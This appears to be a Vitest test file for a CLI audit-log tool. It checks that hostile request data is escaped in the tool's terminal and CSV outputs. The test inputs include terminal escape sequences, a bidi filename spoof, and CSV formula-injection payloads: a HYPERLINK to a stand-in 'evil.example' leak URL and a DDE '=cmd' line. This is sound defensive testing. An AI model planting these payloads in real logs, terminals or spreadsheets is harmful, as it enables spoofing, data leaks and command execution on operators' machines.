import { appendFile, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeTempDir, runMon } from "../helpers/cli.js";
import { startRuntimeApp } from "../helpers/runtime-app.js";

/**
 * Attacker-chosen request data on its way to an operator's terminal and spreadsheet: a real app
 * receives a hostile tenant in a route parameter and hostile user names, and every human output
 * of the built CLI (tail, report as table/markdown/csv, verify on a corrupted line, check in its
 * human, GitHub and JUnit formats) must show it escaped, never raw; JSON outputs stay exact.
 */
const TITLE_AND_CLEAR = "\x1b]0;pwned\x07\x1b[2J";
const BIDI_TENANT = "EUR\u202egnp.exe\u200b";
const FORMULA_USER = '=HYPERLINK("http://evil.example/?leak","click")';
const CMD_USER = "=cmd|' /C calc'!A0";
const HIDDEN_USER = "admin\u2066\u200d\u2069";
/** A corrupt line that would hide everything printed after it (ESC[8m: concealed). */
const CONCEALING_LINE = "\x1b[8m{\"broken\": TAMPERED\n";

/** Raw bytes no human output may contain: C0 (but \n), DEL, C1, bidi controls, zero-width characters. */
const RAW_UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;

let temp: { dir: string; cleanup: () => Promise<void> };
let logs: string;
const env = { MONWIRE_AUDIT_KEY: "" };

beforeAll(async () => {
  temp = await makeTempDir("monwire-hostile-");
  logs = join(temp.dir, "logs");
  const config = {
    service: "shop",
    tenants: { values: ["EUR", "KM"], from: "param:shop", currency: { EUR: "EUR", KM: "BAM" } },
    audit: { dir: logs },
  };
  await writeFile(join(temp.dir, "mon.config.json"), JSON.stringify(config));
  const app = await startRuntimeApp({ config });
  try {
    const post = (path: string, body: unknown) =>
      fetch(`${app.url}${path}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
    // The request: percent-encoded ESC ] 0 ; pwned BEL ESC [ 2 J in the tenant parameter.
    expect((await post("/api/shops/%1B%5D0%3Bpwned%07%1B%5B2J/wallet/deposit", { amountMinor: 500 })).status).toBe(201);
    expect((await post(`/api/shops/${encodeURIComponent(BIDI_TENANT)}/wallet/deposit`, { amountMinor: 700 })).status).toBe(201);
    expect((await post(`/api/shops/${"A".repeat(100)}/wallet/deposit`, { amountMinor: 900 })).status).toBe(201);
    expect((await post("/api/shops/EUR/wallet/deposit", { amountMinor: 1250 })).status).toBe(201);
    for (const user of [FORMULA_USER, CMD_USER, HIDDEN_USER, TITLE_AND_CLEAR]) expect((await post("/api/login", { user, password: "wrong" })).status).toBe(401);
  } finally {
    await app.cleanup();
  }
}, 60_000);

afterAll(() => temp?.cleanup());

const mon = (args: string[]) => runMon(args, { cwd: temp.dir, env });
const text = (result: { stdout: unknown; stderr: unknown }) => `${String(result.stdout)}\n${String(result.stderr)}`;

describe("hostile request data in human outputs", () => {
  it("the trail holds the hostile values exactly as sent (JSON outputs stay exact)", async () => {
    const tail = await mon(["tail", "--no-follow", "-n", "100", "--json"]);
    expect(tail.exitCode).toBe(0);
    const [file] = (await readdir(logs)).filter((n) => n.endsWith(".log"));
    const onDisk = await readFile(join(logs, file as string), "utf8");
    expect(`${String(tail.stdout)}\n`).toBe(onDisk);
    const tenants = String(tail.stdout).trim().split("\n").map((l) => JSON.parse(l).tenant);
    expect(tenants).toEqual(expect.arrayContaining([TITLE_AND_CLEAR, BIDI_TENANT, "EUR"]));
    const report = await mon(["report", "--json"]);
    const json = JSON.parse(String(report.stdout));
    expect(json.summary.byTenant.map((r: { tenant: string }) => r.tenant)).toEqual(expect.arrayContaining([TITLE_AND_CLEAR, BIDI_TENANT]));
    expect(json.summary.authentication.topFailingAccounts.map((a: { account: string }) => a.account)).toEqual(expect.arrayContaining([FORMULA_USER, HIDDEN_USER]));
  });

  it("mon tail escapes them and marks unconfigured tenants raw, capped", async () => {
    const result = await mon(["tail", "--no-follow", "-n", "100"]);
    expect(result.exitCode).toBe(0);
    expect(text(result)).not.toMatch(RAW_UNSAFE);
    expect(String(result.stdout)).toContain('raw:"\\x1b]0;pwned\\x07\\x1b[2J"');
    expect(String(result.stdout)).toContain('raw:"EUR\\u202egnp.exe\\u200b"');
    expect(String(result.stdout)).toContain(`raw:"${"A".repeat(64)}…"`);
    expect(String(result.stdout)).toContain("admin\\u2066\\u200d\\u2069");
    expect(String(result.stdout)).toMatch(/^\S+ \S+ {2}EUR {3}/m);
  });

  it.each([["table"], ["markdown"], ["csv"]])("mon report --format %s escapes them", async (format) => {
    const result = await mon(["report", "--format", format]);
    expect(String(result.stderr)).toBe("");
    expect(text(result)).not.toMatch(RAW_UNSAFE);
    expect(String(result.stdout)).toContain("\\x1b]0;pwned\\x07\\x1b[2J");
    expect(String(result.stdout)).toContain("EUR\\u202egnp.exe\\u200b");
    if (format !== "csv") expect(String(result.stdout)).toContain('raw:"\\x1b]0;pwned\\x07\\x1b[2J"');
  });

  it("mon report --format csv neutralises formulas from user names and tenants (OWASP)", async () => {
    const result = await mon(["report", "--format", "csv"]);
    const rows = String(result.stdout).trim().split("\n");
    expect(rows).toContain(`failing_account,"'=HYPERLINK(""http://evil.example/?leak"",""click"")",failures,1`);
    expect(rows).toContain(`failing_account,"'=cmd|' /C calc'!A0",failures,1`);
    // No cell starts a formula: every cell that begins with = + - @ is quoted behind a '.
    for (const row of rows) expect(row, row).not.toMatch(/(^|,)[=+@-]/);
    expect(rows.some((r) => /^financial,EUR\/EUR\/deposit,amount,12\.50$/.test(r))).toBe(true);
  });

  it("mon verify escapes a corrupt line that would conceal the verdict", async () => {
    const [file] = (await readdir(logs)).filter((n) => n.endsWith(".log"));
    await appendFile(join(logs, file as string), CONCEALING_LINE);
    const result = await mon(["verify"]);
    expect(result.exitCode).toBe(1);
    expect(text(result)).not.toMatch(RAW_UNSAFE);
    expect(String(result.stdout)).toContain("\\x1b[8m");
    expect(String(result.stdout)).toMatch(/TAMPERED/);
    const json = await mon(["verify", "--json"]);
    expect(String(json.stdout)).toContain("\\u001b[8m");
  });

  it.each([["human"], ["github"], ["junit"]])("mon check --format %s escapes the corrupt line it quotes", async (format) => {
    const result = await mon(["check", "--only", "audit", "--offline", "--format", format]);
    expect(result.exitCode).toBe(1);
    expect(text(result)).not.toMatch(RAW_UNSAFE);
    expect(text(result)).toContain("\\x1b[8m");
  });

  it("mon tail shows the corrupt line's problem escaped", async () => {
    const result = await mon(["tail", "--no-follow", "-n", "100", "--verify"]);
    expect(text(result)).not.toMatch(RAW_UNSAFE);
    expect(String(result.stderr)).toContain("\\x1b[8m");
  });
});
